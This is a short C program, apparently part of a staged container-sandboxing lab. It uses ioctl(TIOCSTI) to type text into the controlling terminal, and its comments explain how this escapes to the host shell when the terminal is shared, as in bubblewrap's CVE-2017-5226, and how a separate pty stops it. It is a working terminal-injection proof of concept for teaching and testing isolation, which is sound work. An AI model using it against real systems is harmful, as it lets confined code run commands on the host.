// Types a line into the terminal on stdin, as if its user had: ioctl(TIOCSTI) pushes
// one byte at a time into the terminal's input queue, where whichever program reads
// that terminal next gets it. Allowed on the caller's own controlling terminal (and,
// with CAP_SYS_ADMIN, on any), unless the kernel's dev.tty.legacy_tiocsti is 0
// (Linux 6.2+; some distributions turn it off).
//
// In stages 2 to 7 the container's controlling terminal is the host's: what it types
// there, the host's shell reads once the container has exited. (bubblewrap's
// CVE-2017-5226 was this; its fix, --new-session, is a setsid().) In stage 8 the
// container's controlling terminal is its own pty: what it types, only it reads.
//
// Build: cc -static -o type-into type-into.c
// Use:   type-into TEXT          (in the container) types TEXT and Enter
#include <stdio.h>
#include <sys/ioctl.h>

int main(int argc, char **argv) {
  if (argc != 2) {
    fprintf(stderr, "usage: %s TEXT\n", argv[0]);
    return 2;
  }
  for (const char *c = argv[1]; *c != '\0'; c++) {
    if (ioctl(0, TIOCSTI, c) != 0) {
      perror("ioctl(TIOCSTI)");
      return 1;
    }
  }
  const char enter = '\n';
  if (ioctl(0, TIOCSTI, &enter) != 0) {
    perror("ioctl(TIOCSTI)");
    return 1;
  }
  return 0;
}
